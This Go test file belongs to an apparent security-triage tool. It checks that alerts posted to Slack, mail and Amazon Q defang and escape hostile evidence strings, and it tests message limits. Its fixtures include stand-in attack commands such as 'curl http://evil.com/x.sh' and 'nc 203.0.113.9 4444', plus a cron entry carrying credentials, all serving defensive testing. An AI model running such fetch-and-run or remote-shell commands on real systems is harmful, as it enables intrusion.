package report

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"diffy/pkg/triage"
)

// attempts are what evidence may try in a message.
var attempts = []string{
	"<!channel>", "<!here>", "<!everyone>", "<@U0123456>", "<#C0123456>", "<!subteam^S0123456>", "@here", "@channel", "@everyone", "#general",
	"<http://evil.example|Open the report>", "http://evil.example/x", "https://evil.com", "ftp://evil.com/x", "hxxp://evil.com", "javascript://evil.com",
	"evil.com", "www.evil.com/x.sh", "evil.com/x", "mail ops@evil.com now", "203.0.113.9", "203.0.113.9:8080/x.sh", "//evil.com/x", "évil.com", "xn--vil-9la.xn--p1ai",
	"*bold*", "_italic_", "~gone~", "`code`", "```block```", "> quote", "- item", "# title", ":skull:", "[Open](http://evil.com)", "![x](http://evil.com)",
	"a\n*b*\n<!channel>", "\r\nX: y", "\u202egnp.exe", "\u200b\u2060", "\x1b[31m", "\x07", "&lt;!channel&gt;", "&amp;", " ` lead", "x`", "` `", "|", "''\"",
	"tel:+15551234567", "mailto:x@evil.com", "slack://channel?id=1", "a`<!channel>`b", "\u2028", "\x00", "\xff\xfe", "`" + strings.Repeat("é", 5000),
}

// attempting is an alert with an attempt in every text.
func attempting(s string) Alert {
	host := AlertHost{
		Host: s, Status: triage.Status(s), Reason: s, Outlier: true, Suspect: true, Findings: 2,
		Top: []AlertFinding{{ID: s, Severity: triage.Severity(s), Query: s, Kind: triage.Kind(s), What: s, HostsWith: 1, HostsCompared: 2}},
	}
	quiet := AlertHost{Host: s, Status: triage.NotExamined, Reason: s, Suspect: true}
	return Alert{
		Schema: AlertSchema, ID: s, Status: s, Severity: s, Verdict: s, Run: s, Incident: s, Group: s, Account: s, Region: s, Finished: s,
		Trigger: &triage.Trigger{Source: s, ID: s, Type: s, Time: s}, Hosts: &AlertCounts{2, 1, 0, 1, 1},
		Suspects: []AlertHost{host, quiet}, Outliers: []AlertHost{host, host}, Unseen: []AlertGap{{s, 1}},
		Pivots:  []AlertPivot{{triage.PivotKind(s), s, 1, 1, 1}},
		Console: "https://eu-west-1.console.aws.amazon.com/s3/object/w?prefix=runs%2Fr%2Freport.html&region=eu-west-1", Command: "diffy runs report r",
	}
}

// markup is what begins something in a text of Slack: a mention, a link, a command.
var markup = regexp.MustCompile(`<[^>]*>`)

// Nothing of the evidence mentions, links or formats in Slack: every angle bracket
// is ours, values are code without a grave accent, and nothing is verbatim that is
// not said to be.
func TestSlackIsInert(t *testing.T) {
	ours := regexp.MustCompile(`^<https://eu-west-1\.console\.aws\.amazon\.com/[!-;=?-{}~]*\|\*Open the (report|execution)\*>$`)
	code := regexp.MustCompile("`[^`\n]+`")
	for _, attempt := range attempts {
		m := attempting(attempt).Slack([]SlackEarlier{{attempt, attempt}})
		for _, b := range m.Blocks {
			texts := b.Elements
			if b.Text != nil {
				texts = append(texts, *b.Text)
			}
			for _, text := range texts {
				if text.Type == "plain_text" {
					continue // a header, in which nothing is parsed
				}
				if text.Verbatim == nil || !*text.Verbatim {
					t.Errorf("%q: Slack makes links in %q", attempt, text.Text)
				}
				for _, tag := range markup.FindAllString(text.Text, -1) {
					if !ours.MatchString(tag) {
						t.Errorf("%q: %q acts in Slack", attempt, tag)
					}
				}
				prose := code.ReplaceAllString(text.Text, "")
				if strings.Contains(prose, "`") {
					t.Errorf("%q ends a code of ours: %q", attempt, text.Text)
				}
				for _, sign := range []string{"skull", "bold", "italic", "gone", "title"} {
					if strings.Contains(prose, ":"+sign) || strings.Contains(prose, "*"+sign) || strings.Contains(prose, "_"+sign) || strings.Contains(prose, "~"+sign) {
						t.Errorf("%q formats: %q", attempt, prose)
					}
				}
			}
		}
		if m.Parse != "none" || m.LinkNames || m.UnfurlLinks || m.UnfurlMedia {
			t.Errorf("Slack is asked to find links: %+v", m)
		}
		if markup.MatchString(m.Text) {
			t.Errorf("%q acts in the notification %q", attempt, m.Text)
		}
	}
}

// linkable is what a mail or chat program may make a link of: an address, a name of
// the internet at the beginning of a word, or a public address.
var linkable = regexp.MustCompile(`://|(?:^|[\s"'(<>\[,;=@|]|//)(?:[\pL\pN_-]+\.)+(?:com|example|xn--\w+)\b|203\.0\.113\.9`)

// No value of a host can be clicked in a mail or by way of Amazon Q, moves what is
// around it, or begins a line.
func TestMailAndChatAreInert(t *testing.T) {
	for _, attempt := range attempts {
		a := attempting(attempt)
		text := strings.ReplaceAll(a.Text(), a.Console, "")
		chat, err := a.AmazonQ()
		if err != nil {
			t.Fatal(err)
		}
		var m chatMessage
		if err := json.Unmarshal(chat, &m); err != nil {
			t.Fatal(err)
		}
		for form, text := range map[string]string{"mail": text, "subject": a.Subject(), "chat": m.Content.Title + "\n" + m.Content.Description + "\n" + m.Metadata.Summary} {
			if found := linkable.FindString(text); found != "" {
				t.Errorf("%q: %s has the link %q:\n%s", attempt, form, found, text)
			}
			for line := range strings.Lines(text) {
				if strings.TrimSuffix(line, "\n") != visible(strings.TrimSuffix(line, "\n")) {
					t.Errorf("%q: %s holds what cannot be seen: %q", attempt, form, line)
				}
			}
		}
		if text := m.Content.Description; strings.ContainsAny(text, "<>&@") {
			t.Errorf("%q acts in a chat: %q", attempt, text)
		}
		if strings.Count(a.Text(), "\n") > 16 || strings.Count(m.Content.Description, "\n") > 16 {
			t.Errorf("%q begins lines:\n%s\n%s", attempt, a.Text(), m.Content.Description)
		}
	}
}

// However much there is, a message keeps Slack's limits.
func TestSlackLimits(t *testing.T) {
	for _, fill := range []string{"&", "`", "\x1b", "😀"} {
		a := attempting(strings.Repeat(fill, 5000))
		for range 10 {
			a.Suspects, a.Outliers, a.Unseen, a.Pivots = append(a.Suspects, a.Suspects[0]), append(a.Outliers, a.Outliers[0]), append(a.Unseen, a.Unseen[0]), append(a.Pivots, a.Pivots[0])
		}
		var earlier []SlackEarlier
		for range 100 {
			earlier = append(earlier, SlackEarlier{strings.Repeat(fill, 128), strings.Repeat(fill, 400)})
		}
		m := a.Slack(earlier)
		if len(m.Blocks) > 50 {
			t.Errorf("%d blocks", len(m.Blocks))
		}
		for _, b := range m.Blocks {
			for _, text := range append(b.Elements, deref(b.Text)...) {
				n, limit := utf8.RuneCountInString(text.Text), 3000
				if b.Type == "header" {
					limit = 150
				}
				if n > limit || n == 0 && b.Type != "divider" {
					t.Errorf("%s of %q has %d characters", b.Type, fill, n)
				}
			}
			if len(b.Elements) > 10 {
				t.Errorf("%d elements", len(b.Elements))
			}
		}
		if len(m.Text) > 4000 {
			t.Errorf("text of %d bytes", len(m.Text))
		}
	}
}

func deref(text *SlackText) []SlackText {
	if text == nil {
		return nil
	}
	return []SlackText{*text}
}

// The result of a whole fleet in which every string is an attempt makes messages
// as well.
func TestAlertOfHostileResult(t *testing.T) {
	var r triage.Result
	data, err := os.ReadFile(filepath.Join("testdata", "hostile.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(data, &r); err != nil {
		t.Fatal(err)
	}
	a := NewAlert(&r, triage.PurposeTriage)
	once, err := a.JSON()
	if err != nil {
		t.Fatal(err)
	}
	twice, err := a.Sealed().Sealed().JSON()
	if err != nil {
		t.Fatal(err)
	}
	if string(once) != string(twice) {
		t.Errorf("sealing again changes\n%s\nto\n%s", once, twice)
	}
	for _, m := range []string{a.Text(), a.Slack(nil).Text} {
		if found := linkable.FindString(m); found != "" {
			t.Errorf("%q is a link in\n%s", found, m)
		}
	}
}

func TestDefang(t *testing.T) {
	for in, want := range map[string]string{
		"curl http://evil.com/x.sh":              "curl http[:]//evil[.]com/x.sh",
		"evil.com":                               "evil[.]com",
		"nc 203.0.113.9 4444":                    "nc 203[.]0[.]113[.]9 4444",
		"10.77.0.11 and 127.0.0.1":               "10.77.0.11 and 127.0.0.1",
		"0.0.0.0:4444":                           "0.0.0.0:4444",
		"/etc/cron.d/backup.sh":                  "/etc/cron.d/backup.sh",
		"/tmp/.x.sh":                             "/tmp/.x.sh",
		"backup.sh":                              "backup[.]sh",
		"sshd.service and python3.11":            "sshd.service and python3.11",
		"ip-10-0-0-1.eu-west-1.compute.internal": "ip-10-0-0-1.eu-west-1.compute.internal",
		"shop-api 1.9.0":                         "shop-api 1.9.0",
		"//evil.com/x":                           "//evil[.]com/x",
		"user@evil.com":                          "user@evil[.]com",
	} {
		if got := defang(in); got != want {
			t.Errorf("%s becomes %s, want %s", in, got, want)
		}
	}
}

// What names a row is what a responder would ask for first.
func TestWhat(t *testing.T) {
	tests := []struct {
		name string
		f    triage.Finding
		want string
	}{
		{"listener", triage.Finding{Key: triage.Row{"protocol": "6", "family": "2", "address": "0.0.0.0", "port": "31337"}}, "port 31337 · 0.0.0.0"},
		{"process", triage.Finding{Key: triage.Row{"path": "/tmp/.x/bash", "name": "bash", "username": "root"}}, "/tmp/.x/bash · root"},
		{"cron", triage.Finding{Key: triage.Row{"path": "/etc/cron.d/x", "command": "curl -u a:b http://c/d"}}, "curl -u a:[redacted] http://c/d · /etc/cron.d/x"},
		{"changed", triage.Finding{Key: triage.Row{"path": "/usr/sbin/sshd"}, ChangedColumns: []string{"sha256", "size"}}, "/usr/sbin/sshd (sha256 and size)"},
		{"one row a host", triage.Finding{ChangedColumns: []string{"mode"}}, "mode"},
		{"nothing", triage.Finding{}, ""},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := what(&test.f); got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}
